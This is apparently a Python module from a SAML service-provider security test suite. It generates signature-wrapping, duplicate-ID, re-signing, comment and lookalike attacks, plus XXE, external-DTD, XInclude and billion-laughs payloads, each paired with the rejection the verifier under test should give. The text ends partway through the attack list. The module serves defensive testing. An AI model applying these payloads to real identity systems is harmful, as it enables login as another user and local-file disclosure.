"""attacks - every attack on a SAML SP that a Response alone can carry.

Each Attack starts from a VALID response signed by the IdP (made by
samlforge, an independent signer) and turns it into the attack bytes with a
pure function ``build(signed_bytes, ctx) -> bytes``. The same list is run by
tests/security/test_attacks_cli.py through authncontext-verify and can be
run by a live-httpd runner against the ACS: a runner only needs to

  1. make an AttackContext with the IdP key the SP trusts, the SP's
     entityID/ACS URL/cert and the request ID it has outstanding;
  2. for each attack: base = ctx.base(attack.base); submit every value of
     attack.prime_values(ctx) (each must be accepted), then
     attack.value(ctx) (``raw`` attacks are already the SAMLResponse form
     value; otherwise base64-encode the XML for an HTTP POST);
  3. assert attack.verdict, and for "reject" that the logged reason is in
     attack.reasons; for "accept" call attack.check(record, ctx).

Where several defences are each a correct answer for one arrangement (for
example XSW5 breaks "one Assertion", "Reference to the parent's ID" and
"signed element is the element used" at once, and which check a verifier
runs first is its own business) ``reasons`` lists them; every listed reason
is a rejection for a security rule, never a generic failure. Arrangements
that put the signed copy INSIDE the ds:Signature (XSW1, XSW6, XSW8, the
ds:Object variant) also list signature-invalid: the enveloped-signature
transform (XMLDSig 6.6.4) drops every descendant of the Signature from the
digested node-set, so a correct verifier may find the digest wrong first
(checked: xmlsec1 --verify fails them; it passes all the other wrapping
arrangements, whose signatures stay cryptographically valid).

"Evil" content is always: NameID admin@example.org and class
https://refeds.org/profile/mfa, where the IdP signed alice@example.org with
PasswordProtectedTransport. A vulnerable SP would log in as admin with MFA.
"""
import base64
import copy
import uuid

from lxml import etree

import samlforge as sf
from samlforge import NS_DS, NS_SAML, NS_SAMLP, _q

EVIL_NAME = "admin@example.org"
EVIL_CLASS = sf.MFA
GOOD_NAME = "alice@example.org"

WRAPPING = ("signature-wrapping", "signature-reference", "signature-missing",
            "multiple-assertions", "duplicate-id", "xml-schema")


class AttackContext:
    """What an attack needs to know about the SP under test and the keys.
    idp: the samlforge.KeyPair the SP trusts for idp_entity_id; attacker: a
    key the SP does not trust; sp_cert_pem: for EncryptedAssertion."""

    def __init__(self, idp, attacker, sp_cert_pem, now=None, request_id="_req-attack",
                 sp_entity_id=sf.SP_ENTITY_ID, acs_url=sf.ACS_URL,
                 idp_entity_id=sf.IDP_ENTITY_ID, extra_request_ids=(),
                 canary_url="http://127.0.0.1:9/"):
        self.idp = idp
        self.attacker = attacker
        self.sp_cert_pem = sp_cert_pem
        self.now = now or sf.utcnow()
        self.request_id = request_id
        # further outstanding requests, for attacks that need a second one
        self.extra_request_ids = list(extra_request_ids)
        self.sp_entity_id = sp_entity_id
        self.acs_url = acs_url
        self.idp_entity_id = idp_entity_id
        # a loopback URL the runner watches: the SP must never fetch
        # anything a message names (DTDs, entities, XIncludes, keys, data)
        self.canary_url = canary_url

    def tree(self, **kw):
        kw.setdefault("in_response_to", self.request_id)
        kw.setdefault("issuer", self.idp_entity_id)
        kw.setdefault("destination", self.acs_url)
        kw.setdefault("recipient", self.acs_url)
        kw.setdefault("audiences", (self.sp_entity_id,))
        kw.setdefault("name_id", GOOD_NAME)
        kw.setdefault("authn_statements", [{"class_ref": sf.PPT}])
        kw.setdefault("response_id", "_r" + uuid.uuid4().hex)
        kw.setdefault("assertion_id", "_a" + uuid.uuid4().hex)
        return sf.build_response(self.now, **kw)

    def response(self, sign="response", sign_kw=None, **kw):
        """A fresh response as the trusted IdP would sign it (sign: response,
        assertion, both or none)."""
        r = self.tree(**kw)
        if sign != "none":
            sf.sign(r, sign, self.idp, **(sign_kw or {}))
        return sf.to_bytes(r)

    def base(self, kind):
        """The valid signed response an attack starts from: kind is what is
        signed (response, assertion, both), or "unsolicited" (a signed
        Response with no InResponseTo)."""
        if kind == "unsolicited":
            return self.response(in_response_to=None)
        return self.response(sign=kind)


class Attack:
    def __init__(self, name, build, reasons=(), base="response", verdict="reject",
                 check=None, options=None, prime=(), raw=False, transports=("cli", "http"),
                 about=""):
        self.name = name
        self.build = build
        self.reasons = tuple(reasons)
        self.base = base
        self.verdict = verdict
        self.check = check
        # allow_unsolicited, allow_sha1, require_signed_assertion, sp_key,
        # max_size, no_request (no outstanding request at all)
        self.options = options or {}
        self.prime = prime          # builders (signed, ctx) -> bytes accepted first
        self.raw = raw              # build output is the form value itself
        self.transports = transports
        self.about = about

    def value(self, ctx, base=None):
        return self.build(base if base is not None else ctx.base(self.base), ctx)

    def prime_values(self, ctx, base=None):
        b = base if base is not None else ctx.base(self.base)
        return [p(b, ctx) for p in self.prime]

    def __repr__(self):
        return "Attack(%s)" % self.name


# --- tree helpers ------------------------------------------------------------

def _parse(data):
    return sf.parse(data)


def _out(root):
    return sf.to_bytes(root)


def _assertion(root):
    return root.find(_q(NS_SAML, "Assertion"))


def _sig(el):
    return el.find(_q(NS_DS, "Signature"))


def _strip_sig(el):
    s = _sig(el)
    if s is not None:
        el.remove(s)
    return el


def _evilize(a, new_id=True):
    """Attacker's edit of an (unsigned copy of an) assertion."""
    if new_id:
        a.set("ID", "_evil" + uuid.uuid4().hex)
    n = a.find(".//" + _q(NS_SAML, "NameID"))
    if n is not None:
        for c in list(n):
            n.remove(c)
        n.text = EVIL_NAME
    for c in a.iter(_q(NS_SAML, "AuthnContextClassRef")):
        c.text = EVIL_CLASS
    return a


def _after_issuer(parent):
    iss = parent.find(_q(NS_SAML, "Issuer"))
    return list(parent).index(iss) + 1 if iss is not None else 0


def _insert_extensions(resp, children):
    ext = etree.Element(_q(NS_SAMLP, "Extensions"))
    for c in children:
        ext.append(c)
    pos = _after_issuer(resp)
    if _sig(resp) is not None and list(resp).index(_sig(resp)) >= pos:
        pos = list(resp).index(_sig(resp)) + 1
    resp.insert(pos, ext)
    return ext


# --- XML Signature Wrapping (Somorovsky et al., USENIX Security 2012) ---------
# Response-level arrangements start from a Response-signed base, assertion-
# level ones from an Assertion-signed base, exactly as in the paper (and as
# SAML Raider numbers them).

def xsw1(signed, ctx):
    """Evil Response (new ID, evil assertion); the signed original Response is
    moved INTO the Signature element, where the Reference still finds it."""
    root = _parse(signed)
    sig = _sig(root)
    original = _strip_sig(copy.deepcopy(root))
    sig.append(original)
    root.set("ID", "_evil" + uuid.uuid4().hex)
    _evilize(_assertion(root))
    return _out(root)


def xsw2(signed, ctx):
    """As XSW1, but the signed original Response sits before the Signature as
    a sibling (detached signature)."""
    root = _parse(signed)
    sig = _sig(root)
    original = _strip_sig(copy.deepcopy(root))
    root.insert(list(root).index(sig), original)
    root.set("ID", "_evil" + uuid.uuid4().hex)
    _evilize(_assertion(root))
    return _out(root)


def xsw3(signed, ctx):
    """An unsigned evil Assertion inserted BEFORE the signed one."""
    root = _parse(signed)
    a = _assertion(root)
    evil = _evilize(_strip_sig(copy.deepcopy(a)))
    root.insert(list(root).index(a), evil)
    return _out(root)


def xsw4(signed, ctx):
    """The signed Assertion becomes a child of an unsigned evil Assertion."""
    root = _parse(signed)
    a = _assertion(root)
    evil = _evilize(_strip_sig(copy.deepcopy(a)))
    root.replace(a, evil)
    evil.append(a)
    return _out(root)


def xsw5(signed, ctx):
    """The evil Assertion keeps the original Signature (Reference to the
    original ID); an unsigned copy of the original is appended to the
    Response, where the Reference resolves."""
    root = _parse(signed)
    a = _assertion(root)
    original = _strip_sig(copy.deepcopy(a))
    _evilize(a)
    root.append(original)
    return _out(root)


def xsw6(signed, ctx):
    """As XSW5, but the original copy is put inside the evil Assertion's
    Signature element."""
    root = _parse(signed)
    a = _assertion(root)
    original = _strip_sig(copy.deepcopy(a))
    _evilize(a)
    _sig(a).append(original)
    return _out(root)


def xsw7(signed, ctx):
    """The signed Assertion hidden in samlp:Extensions; an unsigned evil
    Assertion in its place."""
    root = _parse(signed)
    a = _assertion(root)
    evil = _evilize(_strip_sig(copy.deepcopy(a)))
    root.replace(a, evil)
    _insert_extensions(root, [a])
    return _out(root)


def xsw8(signed, ctx):
    """The evil Assertion keeps the Signature; the original (unsigned copy)
    is wrapped in a ds:Object inside that Signature."""
    root = _parse(signed)
    a = _assertion(root)
    original = _strip_sig(copy.deepcopy(a))
    _evilize(a)
    obj = etree.SubElement(_sig(a), _q(NS_DS, "Object"))
    obj.append(original)
    return _out(root)


# --- more wrapping variants --------------------------------------------------

def response_in_extensions(signed, ctx):
    """Unsigned evil Response whose samlp:Extensions holds the signed one."""
    root = _parse(signed)
    original = copy.deepcopy(root)
    _strip_sig(root)
    root.set("ID", "_evil" + uuid.uuid4().hex)
    _evilize(_assertion(root))
    _insert_extensions(root, [original])
    return _out(root)


def response_in_object(signed, ctx):
    """Evil Response keeps the Signature; the original Response (signature
    stripped, as digested) hides in a ds:Object of that Signature."""
    root = _parse(signed)
    sig = _sig(root)
    original = _strip_sig(copy.deepcopy(root))
    etree.SubElement(sig, _q(NS_DS, "Object")).append(original)
    root.set("ID", "_evil" + uuid.uuid4().hex)
    _evilize(_assertion(root))
    return _out(root)


def assertion_in_advice(signed, ctx):
    """Unsigned evil Assertion carrying the signed one in saml:Advice."""
    root = _parse(signed)
    a = _assertion(root)
    evil = _evilize(_strip_sig(copy.deepcopy(a)))
    root.replace(a, evil)
    cond = evil.find(_q(NS_SAML, "Conditions"))
    adv = etree.Element(_q(NS_SAML, "Advice"))
    adv.append(a)
    evil.insert(list(evil).index(cond) + 1, adv)
    return _out(root)


def second_assertion_after(signed, ctx):
    """An unsigned evil Assertion AFTER the signed one (SPs reading the last
    Assertion)."""
    root = _parse(signed)
    a = _assertion(root)
    evil = _evilize(_strip_sig(copy.deepcopy(a)))
    root.append(evil)
    return _out(root)


def second_assertion_before_with_sig_copy(signed, ctx):
    """An evil Assertion before the signed one, carrying a copy of the
    original Signature (its Reference points at the real signed Assertion)."""
    root = _parse(signed)
    a = _assertion(root)
    evil = _evilize(copy.deepcopy(a))
    root.insert(list(root).index(a), evil)
    return _out(root)


def duplicate_id_extensions(signed, ctx):
    """The classic ID confusion: the signed Assertion in Extensions and an
    evil Assertion with the SAME ID carrying a copy of the Signature. A
    verifier that resolves '#ID' to the first element verifies the hidden
    one and reads the evil one."""
    root = _parse(signed)
    a = _assertion(root)
    evil = _evilize(copy.deepcopy(a), new_id=False)
    root.replace(a, evil)
    _insert_extensions(root, [a])
    return _out(root)


def duplicate_id_evil_first(signed, ctx):
    """An unsigned evil Assertion with the signed one's ID, placed first."""
    root = _parse(signed)
    a = _assertion(root)
    evil = _evilize(_strip_sig(copy.deepcopy(a)), new_id=False)
    root.insert(list(root).index(a), evil)
    return _out(root)


def duplicate_id_response(signed, ctx):
    """The Response's ID equals the signed Assertion's ID."""
    root = _parse(signed)
    root.set("ID", _assertion(root).get("ID"))
    return _out(root)


# --- signature tampering -----------------------------------------------------

def signature_removed(signed, ctx):
    root = _parse(signed)
    for s in list(root.iter(_q(NS_DS, "Signature"))):
        s.getparent().remove(s)
    _evilize(_assertion(root), new_id=False)
    return _out(root)


def _resign(signed, kp, what="response", **kw):
    root = _parse(signed)
    for s in list(root.iter(_q(NS_DS, "Signature"))):
        s.getparent().remove(s)
    _evilize(_assertion(root), new_id=False)
    sf.sign(root, what, kp, **kw)
    return _out(root)


def wrong_key(signed, ctx):
    """Evil content signed by a key not in metadata, no KeyInfo."""
    return _resign(signed, ctx.attacker, include_cert=False)


def attacker_keyinfo(signed, ctx):
    """Evil content signed by the attacker, whose certificate (same subject
    CN as the IdP's) travels in KeyInfo: a verifier that trusts KeyInfo
    accepts it."""
    return _resign(signed, ctx.attacker, include_cert=True)


def content_modified(signed, ctx):
    """NameID changed after signing."""
    root = _parse(signed)
    root.find(".//" + _q(NS_SAML, "NameID")).text = EVIL_NAME
    return _out(root)


def class_modified(signed, ctx):
    """AuthnContextClassRef upgraded to MFA after signing."""
    root = _parse(signed)
    root.find(".//" + _q(NS_SAML, "AuthnContextClassRef")).text = EVIL_CLASS
    return _out(root)


def _fresh_signed(ctx, **sign_kw):
    """A response the IdP's key really signs, with unusual signature
    parameters (so only the parameter is wrong)."""
    root = ctx.tree()
    sf.sign_element(root, ctx.idp, **sign_kw)
    return _out(root)


def several_references(signed, ctx):
    root = ctx.tree()
    a = _assertion(root)
    sf.sign_element(root, ctx.idp, references=["#" + root.get("ID"), "#" + a.get("ID")])
    return _out(root)


def reference_to_assertion(signed, ctx):
    """The Response's Signature references the Assertion, not its parent."""
    root = ctx.tree()
    sf.sign_element(root, ctx.idp, references=["#" + _assertion(root).get("ID")])
    return _out(root)


def reference_whole_document(signed, ctx):
    root = ctx.tree()
    sf.sign_element(root, ctx.idp, references=[""])
    return _out(root)


def transform_xpath(signed, ctx):
    return _fresh_signed(ctx, transforms=[
        "enveloped", "xpath:not(ancestor-or-self::ds:Signature)", "exc-c14n"])


def transform_xslt(signed, ctx):
    return _fresh_signed(ctx, transforms=["enveloped", "xslt", "exc-c14n"])


def transform_inclusive_c14n(signed, ctx):
    """Inclusive C14N 1.0 instead of exclusive (DESIGN: exclusive only)."""
    return _fresh_signed(ctx, transforms=["enveloped", "c14n"])


def sha1_signature(signed, ctx):
    return _fresh_signed(ctx, sig_alg="rsa-sha1", digest_alg="sha1")


def sha1_digest(signed, ctx):
    return _fresh_signed(ctx, digest_alg="sha1")


def md5_digest(signed, ctx):
    return _fresh_signed(ctx, digest_alg="md5")


def md5_signature(signed, ctx):
    return _fresh_signed(ctx, sig_alg="rsa-md5", digest_alg="sha256")


def hmac_signature(signed, ctx):
    """HMAC keyed with a secret the attacker chose (CVE-2009-0217 style: a
    verifier that lets the message pick the algorithm)."""
    return _fresh_signed(ctx, sig_alg="hmac")


# --- comments, entities, class values -----------------------------------------

def _insert_comment(el, offset, comment=""):
    """Splits el's text at offset with an XML comment; exclusive C14N
    without comments ignores it, so the signature still verifies."""
    t = el.text
    el.text = t[:offset]
    c = etree.Comment(comment)
    c.tail = t[offset:]
    el.insert(0, c)


COMMENT_NAME = "alice@example.org.evil.example"
COMMENT_CLASS = sf.MFA + "#not-really"


def comment_in_nameid(signed, ctx):
    """IdP signed NameID alice@example.org.evil.example; a comment after
    'alice@example.org' makes first-text-node readers log in as alice."""
    root = ctx.tree(name_id=COMMENT_NAME)
    sf.sign(root, "assertion", ctx.idp)
    _insert_comment(root.find(".//" + _q(NS_SAML, "NameID")), len(GOOD_NAME))
    return _out(root)


def comment_in_class(signed, ctx):
    root = ctx.tree(authn_statements=[{"class_ref": COMMENT_CLASS}])
    sf.sign(root, "assertion", ctx.idp)
    _insert_comment(root.find(".//" + _q(NS_SAML, "AuthnContextClassRef")), len(sf.MFA))
    return _out(root)


def comment_in_class_and_mfa_second(signed, ctx):
    """Comment trick in the first of two AuthnStatements: both whole values,
    in order."""
    root = ctx.tree(authn_statements=[{"class_ref": COMMENT_CLASS}, {"class_ref": sf.PPT}])
    sf.sign(root, "response", ctx.idp)
    _insert_comment(root.find(".//" + _q(NS_SAML, "AuthnContextClassRef")), len(sf.MFA))
    return _out(root)


def char_refs_and_cdata(signed, ctx):
    """Character references and a CDATA section in NameID and class (the
    signature covers the canonical text, so it verifies); the record must
    hold the decoded whole text."""
    root = ctx.tree(name_id=GOOD_NAME, authn_statements=[{"class_ref": sf.MFA}])
    sf.sign(root, "response", ctx.idp)
    data = _out(root)
    data = data.replace(b">alice@example.org<", b">alice&#64;exa<![CDATA[mple]]>.org<")
    data = data.replace(b">https://refeds.org/profile/mfa<",
                        b">https://refeds.org/profile/&#x6d;fa<")
    return data


def entity_in_nameid(signed, ctx):
    """An internal entity for the NameID value (needs a DTD: refused)."""
    body = _out(_parse(signed)).split(b"?>", 1)[1].replace(
        b">alice@example.org<", b">&who;<")
    return (b'<?xml version="1.0"?>\n<!DOCTYPE samlp:Response [\n'
            b'<!ENTITY who "admin@example.org">]>' + body)


def entity_in_class(signed, ctx):
    body = _out(_parse(signed)).split(b"?>", 1)[1].replace(
        sf.PPT.encode(), b"&mfa;")
    return (b'<?xml version="1.0"?>\n<!DOCTYPE samlp:Response [\n'
            b'<!ENTITY mfa "https://refeds.org/profile/mfa">]>' + body)


def class_whitespace(signed, ctx):
    root = ctx.tree(authn_statements=[{"class_ref": " \t\r\n " + sf.MFA + "\n\t "}])
    sf.sign(root, "response", ctx.idp)
    return _out(root)


LOOKALIKES = {
    "case": "https://refeds.org/profile/MFA",
    "scheme-case": "HTTPS://refeds.org/profile/mfa",
    "cyrillic-a": "https://refeds.org/profile/mf\u0430",
    "nbsp": sf.MFA + "\u00a0",
    "zero-width": sf.MFA + "\u200b",
    "trailing-slash": sf.MFA + "/",
    "inner-space": "https://refeds.org/profile/ mfa",
}


# values that, once joined with spaces in AUTHN_CONTEXT_CLASS, split into
# something that reads as the MFA class: refused (issue 11, item 5)
SPLITTING_LOOKALIKES = ("nbsp", "inner-space", "pwd-space-mfa", "line-separator")
LOOKALIKES.update({
    "pwd-space-mfa": "pwd " + sf.MFA,
    "line-separator": "urn:pwd\u2028" + sf.MFA,
})


def class_lookalike(kind):
    def build(signed, ctx):
        root = ctx.tree(authn_statements=[{"class_ref": LOOKALIKES[kind]}])
        sf.sign(root, "response", ctx.idp)
        return _out(root)
    build.__name__ = "class_lookalike_" + kind.replace("-", "_")
    return build


def class_only_in_declref(signed, ctx):
    root = ctx.tree(authn_statements=[{"class_ref": None, "decl_ref": sf.MFA}])
    sf.sign(root, "response", ctx.idp)
    return _out(root)


def class_only_in_attribute(signed, ctx):
    root = ctx.tree(authn_statements=[{"class_ref": sf.PPT}], attributes=[
        {"name": "authnContextClassRef", "values": [sf.MFA]},
        {"name": "http://schemas.microsoft.com/claims/authnmethodsreferences",
         "values": [sf.MS_MFA]}])
    sf.sign(root, "response", ctx.idp)
    return _out(root)


# --- hostile XML and encodings ----------------------------------------------

def _body(signed):
    return _out(_parse(signed)).split(b"?>", 1)[1]


def doctype_plain(signed, ctx):
    return b'<?xml version="1.0"?>\n<!DOCTYPE samlp:Response>' + _body(signed)


def doctype_external_entity(signed, ctx):
    body = _body(signed).replace(b">alice@example.org<", b">&xxe;<")
    return (b'<?xml version="1.0"?>\n<!DOCTYPE samlp:Response [\n'
            b'<!ENTITY xxe SYSTEM "file:///etc/hostname">]>' + body)


def doctype_external_dtd(signed, ctx):
    return (b'<?xml version="1.0"?>\n<!DOCTYPE samlp:Response SYSTEM '
            b'"' + ctx.canary_url.encode() + b'evil.dtd">' + _body(signed))


def doctype_parameter_entity(signed, ctx):
    return (b'<?xml version="1.0"?>\n<!DOCTYPE samlp:Response [\n'
            b'<!ENTITY % pe SYSTEM "' + ctx.canary_url.encode() + b'pe.dtd"> %pe;]>'
            + _body(signed))


def billion_laughs(signed, ctx):
    decl = [b'<!ENTITY lol0 "lol">']
    for i in range(1, 10):
        decl.append(b'<!ENTITY lol%d "%s">' % (i, b"".join(b"&lol%d;" % (i - 1)
                                                             for _ in range(10))))
    body = _body(signed).replace(b">alice@example.org<", b">&lol9;<")
    return (b'<?xml version="1.0"?>\n<!DOCTYPE samlp:Response [\n' + b"\n".join(decl)
            + b"]>" + body)


def external_entity_http(signed, ctx):
    body = _body(signed).replace(b">alice@example.org<", b">&xxe;<")
    return (b'<?xml version="1.0"?>\n<!DOCTYPE samlp:Response [\n<!ENTITY xxe SYSTEM "'
            + ctx.canary_url.encode() + b'entity">]>' + body)


def xinclude_http(signed, ctx):
    root = _parse(signed)
    ext = _insert_extensions(root, [])
    xi = "http://www.w3.org/2001/XInclude"
    inc = etree.SubElement(ext, "{%s}include" % xi, nsmap={"xi": xi})
    inc.set("href", ctx.canary_url + "xinclude")
    return _out(root)


def keyinfo_retrieval_method(signed, ctx):
    """A valid signature by the trusted key whose KeyInfo points at a key
    on the network (KeyInfo is outside SignedInfo, so adding it keeps the
    signature valid). Keys come from metadata only: nothing is fetched and
    the response is accepted."""
    root = ctx.tree()
    sig = sf.sign_element(root, ctx.idp, include_cert=False)
    ki = etree.SubElement(sig, _q(NS_DS, "KeyInfo"))
    rm = etree.SubElement(ki, _q(NS_DS, "RetrievalMethod"))
    rm.set("URI", ctx.canary_url + "key.crt")
    rm.set("Type", "http://www.w3.org/2000/09/xmldsig#rawX509Certificate")
    return _out(root)


def reference_external_uri(signed, ctx):
    """The Reference URI names a network document (changed after signing,
    so SignedInfo no longer matches either)."""
    root = _parse(signed)
    ref = root.find("%s/%s/%s" % (_q(NS_DS, "Signature"), _q(NS_DS, "SignedInfo"),
                                  _q(NS_DS, "Reference")))
    ref.set("URI", ctx.canary_url + "signed-document")
    return _out(root)


def check_keyinfo_ignored(rec, ctx):
    """accepted with the metadata key; the KeyInfo URL is never fetched"""
    assert rec["name_id"]["value"] == GOOD_NAME


def xinclude(signed, ctx):
    """An XInclude of a local file in place of the NameID text."""
    root = _parse(signed)
    n = root.find(".//" + _q(NS_SAML, "NameID"))
    n.text = None
    xi = "http://www.w3.org/2001/XInclude"
    inc = etree.SubElement(n, "{%s}include" % xi, nsmap={"xi": xi})
    inc.set("href", "file:///etc/hostname")
    inc.set("parse", "text")
    return _out(root)


def _nest(depth):
    ns = "urn:example:deep"
    top = etree.Element("{%s}d" % ns, nsmap={"x": ns})
    cur = top
    for _ in range(depth - 1):
        cur = etree.SubElement(cur, "{%s}d" % ns)
    return top


def deep_nesting(depth):
    def build(signed, ctx):
        root = ctx.tree(extensions=[_nest(depth)])
        sf.sign(root, "response", ctx.idp)
        return _out(root)
    build.__name__ = "deep_nesting_%d" % depth
    return build


def huge_document(signed, ctx):
    """A validly signed response of ~1 MiB (over the 256 KiB default cap)."""
    root = ctx.tree(attributes=[{"name": "blob", "values": ["x" * 4096] * 256}])
    sf.sign(root, "response", ctx.idp)
    return _out(root)


def huge_document_base64(signed, ctx):
    return base64.b64encode(huge_document(signed, ctx))


def invalid_utf8(signed, ctx):
    root = ctx.tree(name_id="al\u00efce@example.org")
    sf.sign(root, "response", ctx.idp)
    return _out(root).replace("\u00ef".encode(), b"\xef\xbf")


def overlong_utf8(signed, ctx):
    """'@' as the overlong 2-byte sequence C0 80 (a filter-bypass classic)."""
    return _out(_parse(signed)).replace(b"alice@", b"alice\xc1\x80")


def truncated_base64(signed, ctx):
    b = base64.b64encode(signed)
    return b[:len(b) // 2 + 1]          # not a multiple of 4


def base64_garbage(signed, ctx):
    return b"PHNhbWxwOlJlc3BvbnNl!!!*** not base64 ***"


def nul_byte(signed, ctx):
    data = _out(_parse(signed))
    return data.replace(b">alice@example.org<", b">alice@example.org\x00.evil<")


# --- protocol checks ---------------------------------------------------------

def same(signed, ctx):
    return signed


def expired(signed, ctx):
    return ctx.response(not_on_or_after=-3600, sc_not_on_or_after=-3600,
                        issue_instant=-3700, not_before=-3800,
                        authn_statements=[{"class_ref": sf.PPT, "authn_instant": -3700}])


def expired_subject_only(signed, ctx):
    return ctx.response(sc_not_on_or_after=-3600)


def not_yet_valid(signed, ctx):
    return ctx.response(not_before=3600)


def wrong_audience(signed, ctx):
    return ctx.response(audiences=("https://other-sp.example.org/sp",))


def audience_prefix(signed, ctx):
    return ctx.response(audiences=(ctx.sp_entity_id + "-evil",))


def wrong_destination(signed, ctx):
    return ctx.response(destination="https://other-sp.example.org/saml/acs")


def missing_destination(signed, ctx):
    """A signed Response without Destination (SAML bindings 3.5.5.2: it
    MUST be present when signed)."""
    return ctx.response(destination=None)


def wrong_recipient(signed, ctx):
    return ctx.response(recipient="https://other-sp.example.org/saml/acs")


def wrong_issuer_assertion(signed, ctx):
    return ctx.response(assertion_issuer="https://evil.example.org/idp")


def unknown_issuer(signed, ctx):
    return ctx.response(issuer="https://evil.example.org/idp")


def in_response_to_unknown(signed, ctx):
    return ctx.response(in_response_to="_req-never-sent")


def answer_same_request(signed, ctx):
    """A second, different assertion answering the already answered request."""
    return ctx.response()


def in_response_to_rewritten(signed, ctx):
    """An Assertion-signed response answering somebody else's request
    (SubjectConfirmationData InResponseTo is signed) whose unsigned Response
    InResponseTo the attacker rewrote to a request the SP has outstanding."""
    root = ctx.tree(sc_in_response_to="_req-of-the-victim")
    sf.sign(root, "assertion", ctx.idp)
    return _out(root)


def unsolicited(signed, ctx):
    return ctx.response(in_response_to=None)


def status_with_assertion(signed, ctx):
    return ctx.response(status=sf.RESPONDER, status2=sf.NO_AUTHN_CONTEXT)


def subject_confirmation_hok(signed, ctx):
    return ctx.response(sc_method=sf.HOLDER_OF_KEY)


def encrypted_to_other_key(signed, ctx):
    root = ctx.tree()
    sf.sign(root, "assertion", ctx.idp)
    sf.encrypt_assertion(root, ctx.attacker.cert_pem, "rsa-oaep", "aes256-gcm")
    return _out(root)


def encrypted_rsa_1_5(signed, ctx):
    """Key transport with RSA PKCS#1 v1.5 (Bleichenbacher padding oracle):
    the product decrypts RSA-OAEP only, by design."""
    root = ctx.tree()
    sf.sign(root, "assertion", ctx.idp)
    sf.encrypt_assertion(root, ctx.sp_cert_pem, "rsa-1_5", "aes128-cbc")
    return _out(root)


def encrypted_tampered(data_alg):
    def build(signed, ctx):
        root = ctx.tree()
        sf.sign(root, "assertion", ctx.idp)
        sf.encrypt_assertion(root, ctx.sp_cert_pem, "rsa-oaep", data_alg)
        cv = root.findall(".//{%s}CipherValue" % sf.NS_XENC)[-1]
        cv.text = sf.tamper_ciphertext(cv.text, data_alg)
        return _out(root)
    build.__name__ = "encrypted_tampered_" + data_alg.replace("-", "_")
    return build


# --- checks of accepted records ------------------------------------------------

def _classes(rec):
    return rec["authn_context_class_refs"]


def check_comment_nameid(rec, ctx):
    """NameID reported whole: alice@example.org.evil.example"""
    assert rec["name_id"]["value"] == COMMENT_NAME, rec["name_id"]


def check_comment_class(rec, ctx):
    """class reported whole (MFA URI + '#not-really'), not the MFA URI"""
    assert _classes(rec) == [COMMENT_CLASS], _classes(rec)
    assert sf.MFA not in _classes(rec)


def check_comment_class_two(rec, ctx):
    """both classes whole, in document order"""
    assert _classes(rec) == [COMMENT_CLASS, sf.PPT], _classes(rec)


def check_char_refs(rec, ctx):
    """decoded whole text: alice@example.org and the MFA URI"""
    assert rec["name_id"]["value"] == GOOD_NAME
    assert _classes(rec) == [sf.MFA]


def check_whitespace(rec, ctx):
    """class trimmed to exactly the MFA URI"""
    assert _classes(rec) == [sf.MFA]


def check_lookalike(kind):
    def check(rec, ctx):
        """class reported exactly as signed, not equal to the MFA URI"""
        # reported exactly as signed (after XML-whitespace collapse only):
        # a policy comparing it with the MFA URI must see a different value
        assert _classes(rec) == [LOOKALIKES[kind]], _classes(rec)
        assert sf.MFA not in _classes(rec)
    return check


def check_declref_only(rec, ctx):
    """no class reported; decl_ref is the MFA URI"""
    assert _classes(rec) == []
    assert rec["authn_context_decl_ref"] == sf.MFA


def check_attribute_only(rec, ctx):
    """classes are [PasswordProtectedTransport] only"""
    assert _classes(rec) == [sf.PPT]


# --- the list ----------------------------------------------------------------

def _a(*args, **kw):
    return Attack(*args, **kw)


ATTACKS = [
    # XML Signature Wrapping
    _a("xsw1", xsw1, ("signature-reference", "signature-wrapping", "xml-schema", "signature-invalid"),
       about="signed Response copy inside ds:Signature"),
    _a("xsw2", xsw2, ("signature-reference", "signature-wrapping", "xml-schema"),
       about="signed Response copy detached before ds:Signature"),
    _a("xsw3", xsw3, ("multiple-assertions", "signature-wrapping"), base="assertion",
       about="evil Assertion before the signed one"),
    _a("xsw4", xsw4, ("signature-missing", "signature-wrapping", "xml-schema"),
       base="assertion", about="signed Assertion inside the evil one"),
    _a("xsw5", xsw5, ("multiple-assertions", "signature-reference", "signature-wrapping"),
       base="assertion", about="evil Assertion keeps Signature, original appended"),
    _a("xsw6", xsw6, ("signature-reference", "signature-wrapping", "xml-schema", "signature-invalid"),
       base="assertion", about="original inside the evil Assertion's Signature"),
    _a("xsw7", xsw7, ("signature-missing", "signature-wrapping", "xml-schema"),
       base="assertion", about="signed Assertion hidden in samlp:Extensions"),
    _a("xsw8", xsw8, ("signature-reference", "signature-wrapping", "xml-schema", "signature-invalid"),
       base="assertion", about="original in ds:Object of the evil Assertion's Signature"),
    _a("wrap-response-in-extensions", response_in_extensions,
       ("signature-missing", "signature-wrapping", "xml-schema")),
    _a("wrap-response-in-object", response_in_object,
       ("signature-reference", "signature-wrapping", "xml-schema", "signature-invalid")),
    _a("wrap-assertion-in-advice", assertion_in_advice,
       ("signature-missing", "signature-wrapping", "xml-schema"), base="assertion"),
    _a("wrap-second-assertion-after", second_assertion_after,
       ("multiple-assertions", "signature-wrapping"), base="assertion"),
    _a("wrap-second-assertion-before-sig-copy", second_assertion_before_with_sig_copy,
       ("multiple-assertions", "signature-wrapping", "signature-reference",
        "signature-invalid"), base="assertion"),
    _a("duplicate-id-in-extensions", duplicate_id_extensions,
       ("duplicate-id", "signature-wrapping"), base="assertion"),
    _a("duplicate-id-evil-first", duplicate_id_evil_first,
       ("duplicate-id", "multiple-assertions"), base="assertion"),
    _a("duplicate-id-response-assertion", duplicate_id_response, ("duplicate-id",),
       base="assertion"),
    # signatures
    _a("signature-removed", signature_removed, ("signature-missing",)),
    _a("signature-removed-both", signature_removed, ("signature-missing",), base="both"),
    _a("signature-wrong-key", wrong_key, ("signature-invalid",)),
    _a("signature-attacker-keyinfo", attacker_keyinfo, ("signature-invalid",)),
    _a("signature-attacker-keyinfo-assertion",
       lambda s, c: _resign(s, c.attacker, "assertion"), ("signature-invalid",),
       base="assertion"),
    _a("signature-content-modified", content_modified, ("signature-invalid",)),
    _a("signature-class-modified", class_modified, ("signature-invalid",), base="assertion"),
    _a("signature-several-references", several_references, ("signature-reference",)),
    _a("signature-reference-to-assertion", reference_to_assertion, ("signature-reference",)),
    _a("signature-reference-whole-document", reference_whole_document,
       ("signature-reference",)),
    _a("signature-transform-xpath", transform_xpath, ("signature-transform",)),
    _a("signature-transform-xslt", transform_xslt, ("signature-transform",)),
    _a("signature-transform-inclusive-c14n", transform_inclusive_c14n,
       ("signature-transform",)),
    _a("signature-sha1-disallowed", sha1_signature, ("signature-algorithm",)),
